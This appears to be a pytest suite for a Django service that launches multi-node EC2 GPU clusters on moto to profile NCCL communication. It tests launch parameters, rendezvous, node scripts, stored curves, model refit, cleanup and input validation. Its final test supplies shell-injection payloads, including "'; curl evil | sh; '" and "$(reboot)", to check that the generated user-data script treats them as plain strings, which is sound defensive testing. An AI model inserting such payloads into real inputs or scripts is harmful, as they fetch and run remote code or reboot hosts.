"""EC2 comm profiling across N >= 2 nodes, end to end on moto: launch, rendezvous, sweep posted,
terminate, curves stored, comm model refit.

Only AWS is faked. moto's server runs every EC2 call it implements; the calls it lacks
(placement groups) are answered by the launcher tests' botocore ``before-call`` handlers
(``tests/launcher/fake_aws.py``), which keep the groups in memory and refuse to delete one whose
instances are not all terminated, as EC2 does. Every EC2 request's parameters are recorded on
the way out, since moto accepts but does not echo what a real launch is about
(``Placement.GroupName``, EFA ``InterfaceType``).
"""

from __future__ import annotations

import base64
import io
import json
import os
import shlex
import subprocess
import sys
import tarfile
from copy import deepcopy
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from accounts.tokens import issue_api_token
from profiler import actions, tasks
from profiler.agent.comm import free_port
from profiler.models import CommCurvePoint, ProfilingRun, RunStatus
from profiler.providers import EC2Provider
from tests.launcher.fake_aws import REGION, LaunchAws

pytestmark = pytest.mark.django_db
SERVER = "https://srifty.example.com"


# --- AWS: moto, plus what moto lacks ----------------------------------------------------------


@pytest.fixture
def cloud(aws, aws_hooks, catalog, settings) -> LaunchAws:
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.SITE_URL = SERVER
    fake = LaunchAws(aws)
    aws_hooks.extend(fake.handlers())
    return fake


@pytest.fixture
def staff_api(staff) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {issue_api_token(staff).key}")
    return client


def start_cluster(
    staff_api, capture, instance_type: str = "p4d.24xlarge", nodes: int = 2, **extra
) -> ProfilingRun:
    body = {
        "kind": "comm",
        "provider": "ec2",
        "instance_type": instance_type,
        "region": REGION,
        "nodes": nodes,
        "sizes": "1KB..16MB",
        **extra,
    }
    with capture(execute=True):  # the start task runs on commit (immediate backend)
        resp = staff_api.post("/api/v1/profiling-runs/", body, format="json")
    assert resp.status_code == 201, resp.json()
    return ProfilingRun.objects.get(pk=resp.json()["id"])


def user_data(cloud: LaunchAws, instance_id: str) -> str:
    attr = cloud.moto.describe_instance_attribute(InstanceId=instance_id, Attribute="userData")
    return base64.b64decode(attr["UserData"]["Value"]).decode()


def token_of(script: str) -> str:
    line = next(line for line in script.splitlines() if line.startswith("SRIFTY_TOKEN="))
    return shlex.split(line.partition("=")[2])[0]


def agent_client(token: str) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {token}")
    return client


def private_ip(cloud: LaunchAws, instance_id: str) -> str:
    found = cloud.moto.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]
    return found["PrivateIpAddress"]


def nccl_profile(comm_profile: dict, nodes: int, gpus: int, device: str = "NVIDIA A100-SXM4-40GB") -> dict:
    """What global rank 0 posts after an NCCL sweep over ``nodes`` x ``gpus`` GPUs."""
    doc = deepcopy(comm_profile)
    doc.update(
        backend="nccl",
        world_size=nodes * gpus,
        nodes=nodes,
        ranks_per_node=gpus,
        device={"type": "cuda", "name": device},
        hosts=[f"node{r // gpus}" for r in range(nodes * gpus)],
    )
    doc["environment"].update(nccl="2.21.5", gpu_count=gpus, gpus=[device] * gpus)
    return doc


# --- launch ---------------------------------------------------------------------------------


def test_a_p4d_cluster_is_one_launch_of_n_nodes_in_a_placement_group_with_an_efa_interface_per_card(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    assert run.status == RunStatus.STARTING and len(run.instance_ids) == 2
    assert (run.nodes, run.world_size, run.backend) == (2, 16, "nccl")  # every GPU of both nodes
    (group,) = cloud.params("CreatePlacementGroup")
    assert (group["GroupName"], group["Strategy"]) == (f"srifty-run-{run.pk}", "cluster")
    (launch,) = cloud.params("RunInstances")
    assert (launch["MinCount"], launch["MaxCount"], launch["InstanceType"]) == (2, 2, "p4d.24xlarge")
    assert launch["Placement"] == {"GroupName": f"srifty-run-{run.pk}"}
    nics = launch["NetworkInterfaces"]
    assert [(n["NetworkCardIndex"], n["DeviceIndex"], n["InterfaceType"]) for n in nics] == [
        (0, 0, "efa"),
        (1, 1, "efa"),
        (2, 1, "efa"),
        (3, 1, "efa"),
    ]  # 4 cards, catalog MaximumNetworkCards
    assert len({n["SubnetId"] for n in nics}) == 1 and "SubnetId" not in launch  # one subnet, per interface
    for instance_id in run.instance_ids:
        tags = {
            t["Key"]: t["Value"]
            for t in cloud.moto.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][
                0
            ]["Tags"]
        }
        assert tags["srifty:run-id"] == str(run.pk) and tags["srifty:managed"] == "true"


def test_a_g5_cluster_gets_no_efa_interfaces_and_the_nccl_socket_settings(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, instance_type="g5.2xlarge", nodes=3)
    (launch,) = cloud.params("RunInstances")
    assert "NetworkInterfaces" not in launch and launch["Placement"] == {"GroupName": f"srifty-run-{run.pk}"}
    assert (launch["MinCount"], run.world_size) == (3, 3)
    script = user_data(cloud, run.instance_ids[0])
    assert "export NCCL_SOCKET_NTHREADS=2" in script and "export NCCL_NSOCKS_PERTHREAD=8" in script
    assert "FI_PROVIDER" not in script


def test_every_node_gets_the_same_script_with_the_nccl_sweep_the_rendezvous_and_the_efa_environment(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    scripts = {user_data(cloud, i) for i in run.instance_ids}
    assert len(scripts) == 1
    (script,) = scripts
    lines = script.splitlines()
    assert lines[1].startswith("shutdown -h +")  # the VM's own hard limit
    assert (
        "export FI_PROVIDER=efa" in lines and "export FI_EFA_USE_DEVICE_RDMA=1" in lines
    )  # p4d: GPUDirect RDMA
    assert "SRIFTY_NNODES=2" in lines and "GPUS_PER_NODE=8" in lines
    assert (
        "AGENT_ARGS=(comm --world-size 16 --backend nccl --nnodes 2 --sizes 1KB..16MB "
        "--out /tmp/srifty-profile.json)"
    ) in lines
    assert 'SRIFTY_RDZV_URL="$SRIFTY_SERVER/api/v1/profiling-runs/$SRIFTY_RUN_ID/rendezvous/"' in lines
    assert f"SRIFTY_SERVER={SERVER}" in lines and f"SRIFTY_RUN_ID={run.pk}" in lines
    assert run.token_matches(token_of(script))


# --- rendezvous and the node script ---------------------------------------------------------


def test_the_rendezvous_gives_each_node_its_rank_and_rank_0s_private_ip(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=3, instance_type="g5.2xlarge")
    agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
    url = f"/api/v1/profiling-runs/{run.pk}/rendezvous/"
    master = private_ip(cloud, run.instance_ids[0])
    for rank, instance_id in enumerate(run.instance_ids):
        resp = agent.get(url, {"instance_id": instance_id})
        assert resp.status_code == 200 and resp.json() == {
            "master_addr": master,
            "node_rank": rank,
            "nnodes": 3,
        }
    assert agent.get(url, {"instance_id": "i-0123456789abcdef0"}).status_code == 403  # not a node of this run
    assert agent.get(url).status_code == 400
    assert APIClient().get(url, {"instance_id": run.instance_ids[0]}).status_code == 401


FAKE_CURL = """#!{python}
import json, os, pathlib, sys
args = sys.argv[1:]
log = pathlib.Path(os.environ["FAKE_LOG"])
with open(log / "curl.log", "a") as f:
    f.write(json.dumps(args) + "\\n")
url = next(a for a in args if a.startswith("http"))
out = args[args.index("-o") + 1] if "-o" in args else None
if url.endswith("/latest/api/token"):
    print("imds-token", end="")
elif url.endswith("/meta-data/instance-id"):
    print(os.environ["FAKE_INSTANCE_ID"], end="")
elif url.endswith("/agent.tar.gz"):
    pathlib.Path(out).write_bytes(pathlib.Path(os.environ["FAKE_AGENT_TGZ"]).read_bytes())
elif "/rendezvous/" in url:
    answers = json.loads(os.environ["FAKE_RDZV"])
    counter = log / "rdzv.n"
    n = int(counter.read_text()) if counter.exists() else 0
    counter.write_text(str(n + 1))
    code, body = answers[min(n, len(answers) - 1)]
    if out != "/dev/null":
        pathlib.Path(out).write_text(body)
    print(code, end="")
else:
    sys.exit(22)
"""

FAKE_AGENT = """import json, os, sys
keys = ("FI_PROVIDER", "FI_EFA_USE_DEVICE_RDMA", "NCCL_SOCKET_NTHREADS", "MASTER_ADDR", "MASTER_PORT",
        "WORLD_SIZE", "NODE_RANK", "NNODES")
state = {"argv": sys.argv[1:], "env": {k: os.environ[k] for k in keys if k in os.environ}}
open(os.environ["FAKE_LOG"] + "/agent.json", "w").write(json.dumps(state))
"""


def node_sandbox(tmp: Path):
    """``tests/fleet/test_boot.py``'s bash sandbox, with a curl that answers as one node
    and an agent that records its command line and environment."""
    from tests.fleet.test_boot import Sandbox

    box = Sandbox(tmp)
    (box.bin / "curl").write_text(FAKE_CURL.format(python=sys.executable))
    with tarfile.open(box.agent_tgz, "w:gz") as tar:
        info = tarfile.TarInfo("profiler/agent/__main__.py")
        info.size = len(FAKE_AGENT.encode())
        tar.addfile(info, io.BytesIO(FAKE_AGENT.encode()))
    return box


@pytest.mark.skipif(os.name != "posix", reason="needs bash")
def test_each_node_script_runs_the_agent_as_its_rank_against_rank_0_with_a_layout_the_agent_accepts(
    cloud, staff_api, django_capture_on_commit_callbacks, tmp_path
):
    from profiler.agent.cli import build_parser
    from profiler.agent.comm import CommOptions

    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    script = user_data(cloud, run.instance_ids[0])
    agent = agent_client(token_of(script))
    master = private_ip(cloud, run.instance_ids[0])
    for rank, instance_id in enumerate(run.instance_ids):
        answer = agent.get(f"/api/v1/profiling-runs/{run.pk}/rendezvous/", {"instance_id": instance_id})
        box = node_sandbox(tmp_path / f"node{rank}")
        # the real answer, then "run over" (410) for a worker waiting for rank 0's post
        result = box.run(
            script,
            FAKE_INSTANCE_ID=instance_id,
            FAKE_RDZV=json.dumps([[answer.status_code, json.dumps(answer.json())], [410, ""]]),
        )
        assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
        ran = box.json("agent.json")
        assert ran["env"] == {
            "FI_PROVIDER": "efa",
            "FI_EFA_USE_DEVICE_RDMA": "1",
            "MASTER_ADDR": master,
            "MASTER_PORT": "29500",
            "WORLD_SIZE": "16",
            "NODE_RANK": str(rank),
            "NNODES": "2",
        }
        argv = ran["argv"]
        assert (
            argv[argv.index("--node-rank") + 1] == str(rank)
            and argv[argv.index("--master-addr") + 1] == master
        )
        assert f"{SERVER}/api/v1/profiling-runs/{run.pk}/events/" in argv
        args = build_parser().parse_args(argv)  # the real agent's command line
        layout = CommOptions(
            world_size=args.world_size,
            out=args.out,
            backend=args.backend,
            nnodes=args.nnodes,
            node_rank=args.node_rank,
            master_addr=args.master_addr,
            master_port=args.master_port,
        ).resolved()
        assert (layout.ranks_per_node, layout.node_rank, layout.backend) == (8, rank, "nccl")
        assert box.shutdowns()[-1] == "-h now"
        lingered = [c for c in box.curls() if "/dev/null" in c]
        assert bool(lingered) == (rank > 0)  # workers wait for the run to end before powering off


@pytest.mark.slow
def test_the_agents_sweep_spans_two_node_processes_and_only_node_0_writes_the_curves(tmp_path):
    """The real agent, as two nodes of one host (gloo on loopback: NCCL needs GPUs)."""
    port = free_port()
    env = {
        **os.environ,
        "GLOO_SOCKET_IFNAME": "lo",
        "OMP_NUM_THREADS": "1",
        "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
    }
    procs = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "profiler.agent",
                "comm",
                "--world-size",
                "2",
                "--backend",
                "gloo",
                "--nnodes",
                "2",
                "--node-rank",
                str(rank),
                "--master-addr",
                "127.0.0.1",
                "--master-port",
                str(port),
                "--sizes",
                "1KB..8KB",
                "--repeats",
                "2",
                "--warmup",
                "1",
                "-q",
                "--out",
                str(tmp_path / f"node{rank}.json"),
            ],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        for rank in (0, 1)
    ]
    outputs = [p.communicate(timeout=120)[0].decode(errors="replace") for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outputs
    doc = json.loads((tmp_path / "node0.json").read_text())
    assert (doc["nodes"], doc["world_size"], doc["ranks_per_node"], len(doc["hosts"])) == (2, 2, 1, 2)
    assert [s["size_bytes"] for s in doc["samples"]] == [1024, 2048, 4096, 8192]
    assert not (tmp_path / "node1.json").exists()


# --- the curves arrive: terminate, store, refit ------------------------------------------------


@pytest.mark.slow  # the refit: XGBoost with leave-one-sweep-out cross-validation
def test_posting_the_curves_terminates_every_node_deletes_the_group_stores_the_points_and_refits(
    cloud, staff_api, django_capture_on_commit_callbacks, comm_profile, settings
):
    from planner import nccl_corpus
    from planner.app import comm_training
    from planner.perf.nccl import LearnedComm

    repo_model = nccl_corpus.NCCL_MODEL_FILE.read_bytes()
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    assert cloud.groups == {f"srifty-run-{run.pk}": "cluster"}
    agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
    doc = nccl_profile(comm_profile, nodes=2, gpus=8)
    with django_capture_on_commit_callbacks(execute=True):  # stop and refit run on commit
        resp = agent.post(
            f"/api/v1/profiling-runs/{run.pk}/events/",
            {"seq": 1, "type": "result", "profile": doc},
            format="json",
        )
    assert resp.status_code == 201, resp.json()
    run.refresh_from_db()
    assert run.status == RunStatus.SUCCEEDED
    assert [cloud.state(i) for i in run.instance_ids] == ["terminated", "terminated"]
    assert cloud.groups == {} and cloud.params("DeletePlacementGroup") == [
        {"GroupName": f"srifty-run-{run.pk}"}
    ]

    points = list(CommCurvePoint.objects.filter(run=run))
    assert len(points) == len(doc["samples"])
    assert {
        (p.instance_type, p.nodes, p.gpus_per_node, p.gpu, p.network, p.nccl_version) for p in points
    } == {("p4d.24xlarge", 2, 8, "A100", "efa", "2.21.5")}
    first = doc["samples"][0]
    assert (points[0].size_bytes, points[0].median_us) == (
        first["size_bytes"],
        pytest.approx(first["median_ms"] * 1e3),
    )

    refit = Path(settings.DATA_DIR) / "nccl-model.json"
    assert comm_training.current_model_path() == refit
    model = json.loads(refit.read_text())
    assert model["meta"]["user_points"] == len(points)
    assert model["meta"]["user_sweeps"] == [f"user|run-{run.pk}|p4d.24xlarge|2"]
    assert LearnedComm.from_dict(model).meta["made_by"] == "planner.app.comm_training.refit"
    assert nccl_corpus.NCCL_MODEL_FILE.read_bytes() == repo_model  # the repository's model is never touched


def test_a_curve_of_another_layout_is_refused_and_stores_nothing(
    cloud, staff_api, django_capture_on_commit_callbacks, comm_profile
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
    doc = nccl_profile(comm_profile, nodes=1, gpus=8)
    resp = agent.post(
        f"/api/v1/profiling-runs/{run.pk}/events/",
        {"seq": 1, "type": "result", "profile": doc},
        format="json",
    )
    assert resp.status_code == 400 and "nodes" in resp.json()["profile"][0]
    assert not CommCurvePoint.objects.exists()


# --- nothing left running ---------------------------------------------------------------------


def _assert_all_gone(cloud: LaunchAws, run: ProfilingRun) -> None:
    assert all(cloud.state(i) == "terminated" for i in run.instance_ids)
    assert f"srifty-run-{run.pk}" not in cloud.groups


def test_an_agent_error_terminates_every_node_and_deletes_the_group(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    agent = agent_client(token_of(user_data(cloud, run.instance_ids[0])))
    with django_capture_on_commit_callbacks(execute=True):
        agent.post(
            f"/api/v1/profiling-runs/{run.pk}/events/",
            {"seq": 1, "type": "error", "message": "NCCL WARN NET/OFI no EFA device"},
            format="json",
        )
    run.refresh_from_db()
    assert run.status == RunStatus.FAILED and "NCCL WARN" in run.error
    _assert_all_gone(cloud, run)
    assert not CommCurvePoint.objects.exists()


def test_a_cluster_past_its_hard_limit_is_terminated_with_its_group(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    ProfilingRun.objects.filter(pk=run.pk).update(deadline_at=timezone.now() - timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.watch_run(ProfilingRun.objects.get(pk=run.pk)) == "timed out"
    _assert_all_gone(cloud, run)


def test_one_lost_node_fails_the_run_and_takes_the_others_down(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=3, instance_type="g5.2xlarge")
    cloud.moto.terminate_instances(InstanceIds=[run.instance_ids[1]])  # e.g. a spot node reclaimed
    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.watch_run(ProfilingRun.objects.get(pk=run.pk)) == "failed"
    run.refresh_from_db()
    assert run.status == RunStatus.FAILED and run.instance_ids[1] in run.error
    _assert_all_gone(cloud, run)


def test_a_launch_without_capacity_fails_the_run_and_deletes_the_group(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    cloud.fail_run_instances_at = 1  # InsufficientInstanceCapacity
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    run.refresh_from_db()
    assert run.status == RunStatus.FAILED and "InsufficientInstanceCapacity" in run.error
    assert cloud.params("CreatePlacementGroup") and cloud.groups == {}


def test_a_group_still_held_by_terminating_nodes_is_deleted_by_a_later_cleanup(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    run = start_cluster(staff_api, django_capture_on_commit_callbacks, nodes=2)
    assert EC2Provider().cleanup(run) is False  # the nodes still run: EC2 says InUse
    assert f"srifty-run-{run.pk}" in cloud.groups
    actions.cancel_run(run)  # without commit callbacks: as if the stop task had not run yet
    assert tasks.cleanup_run_task.call(run.pk) == "cleaned up"  # terminates what is left, then deletes
    _assert_all_gone(cloud, run)


# --- bad input --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"nodes": 1}, "nodes"),
        ({"nodes": 17}, "nodes"),  # above PROFILER_MAX_COMM_NODES (16)
        ({"instance_type": "inf2.xlarge"}, "instance_type"),  # Inferentia: no NVIDIA GPU
        ({"instance_type": "g6f.large"}, "instance_type"),  # a fraction of an L4
        ({"backend": "gloo"}, "backend"),
        ({"world_size": 4}, "world_size"),  # 2 nodes x 8 GPUs is 16
        ({"provider": "local"}, "nodes"),
        ({"kind": "compute", "model_spec": "torchvision:resnet18", "input_shape": "3,32,32"}, "nodes"),
    ],
)
def test_bad_cluster_requests_are_refused_naming_the_field_and_launch_nothing(
    cloud, staff_api, change, field
):
    body = {
        "kind": "comm",
        "provider": "ec2",
        "instance_type": "p4d.24xlarge",
        "region": REGION,
        "nodes": 2,
        **change,
    }
    resp = staff_api.post("/api/v1/profiling-runs/", body, format="json")
    assert resp.status_code == 400 and field in resp.json(), resp.json()
    assert not ProfilingRun.objects.exists() and not cloud.params("RunInstances")


def test_a_one_vm_comm_run_leaves_nodes_empty_and_launches_one_instance(
    cloud, staff_api, django_capture_on_commit_callbacks
):
    body = {
        "kind": "comm",
        "provider": "ec2",
        "instance_type": "p4d.24xlarge",
        "region": REGION,
        "backend": "nccl",
        "world_size": 8,
        "nodes": None,
    }
    with django_capture_on_commit_callbacks(execute=True):
        resp = staff_api.post("/api/v1/profiling-runs/", body, format="json")
    assert resp.status_code == 201 and resp.json()["nodes"] is None
    (launch,) = cloud.params("RunInstances")
    assert launch["MinCount"] == 1 and "Placement" not in launch and not cloud.params("CreatePlacementGroup")


def test_the_profiling_form_starts_a_cluster_with_every_gpu_of_every_node(staff, catalog, settings, client):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
    client.force_login(staff)
    resp = client.post(
        "/profiling/",
        {
            "kind": "comm",
            "world_size": "2",
            "backend": "gloo",
            "sizes": "1KB..1MB",
            "nodes": "2",
            "provider": "ec2",
            "instance_type": "p4d.24xlarge",
            "region": REGION,
            "market": "on-demand",
        },
    )
    assert resp.status_code == 302
    run = ProfilingRun.objects.get()
    assert (run.nodes, run.world_size, run.backend) == (2, 16, "nccl")


# --- training data ----------------------------------------------------------------------------


def test_stored_curves_become_user_points_with_the_corpus_topology(make_run, catalog):
    from planner import nccl_corpus
    from planner.app import comm_training

    run = make_run(
        kind="comm",
        provider="ec2",
        instance_type="g5.2xlarge",
        region=REGION,
        nodes=2,
        world_size=2,
        backend="nccl",
    )
    CommCurvePoint.objects.create(
        run=run,
        instance_type="g5.2xlarge",
        nodes=2,
        gpus_per_node=1,
        gpu="A10G",
        network="tcp",
        nccl_version="2.21.5",
        size_bytes=1 << 20,
        median_us=900.0,
        p90_us=950.0,
    )
    (point,) = comm_training.user_points()
    assert point.sweep == f"user|run-{run.pk}|g5.2xlarge|2" and point.measured_us == 900.0
    spec = nccl_corpus.spec_for("A10G", nccl_corpus.load_gpu_specs(nccl_corpus.SPECS_CSV))
    assert point.topology == nccl_corpus.topology_for(
        spec, 1, 2, efa=False, net_gbps=10.0, nccl_version="2.21.5"
    )
    assert nccl_corpus.train_points([point], nccl_corpus.load_split()) == [point]


def test_user_points_never_pass_for_validation_sweeps_and_vice_versa():
    from dataclasses import replace

    from planner import nccl_corpus

    split = nccl_corpus.load_split()
    validation = next(p for p in nccl_corpus.load_points() if p.sweep in split["validation_sweeps"])
    with pytest.raises(ValueError, match="not train sweeps"):
        nccl_corpus.train_points([validation], split)
    with pytest.raises(ValueError, match="users' curves"):
        nccl_corpus.calibrate(split, extra_points=[replace(validation, sweep="x|" + validation.sweep)])


def test_without_a_refit_plans_use_the_repositorys_model(settings):
    from planner import nccl_corpus
    from planner.app import comm_training

    assert comm_training.current_model_path() == nccl_corpus.NCCL_MODEL_FILE
    assert not (Path(settings.DATA_DIR) / "nccl-model.json").exists()


# --- the node script's values stay values -------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="needs bash")
@pytest.mark.parametrize(
    "payload", ["'; curl evil | sh; '", "$(reboot)", "`reboot`", "a\nreboot\n", "--token=x"]
)
def test_the_cluster_script_keeps_the_token_the_agent_arguments_and_the_environment_strings(
    tmp_path, payload
):
    from fleet import boot as userdata
    from tests.security.test_userdata_injection import run_block

    args = ["comm", "--sizes", payload, "--out", payload]
    script = userdata.comm_cluster_user_data(SERVER, 7, payload, 2, 8, args, 30, env={"NCCL_DEBUG": payload})
    out = run_block(
        tmp_path,
        script,
        "export NCCL_DEBUG=",
        "# A Python with torch",
        'printf "%s\\0" "$NCCL_DEBUG" "$SRIFTY_TOKEN" "$SRIFTY_RDZV_URL" "${AGENT_ARGS[@]}"',
    )
    assert out.split("\0")[:-1] == [payload, payload, f"{SERVER}/api/v1/profiling-runs/7/rendezvous/", *args]
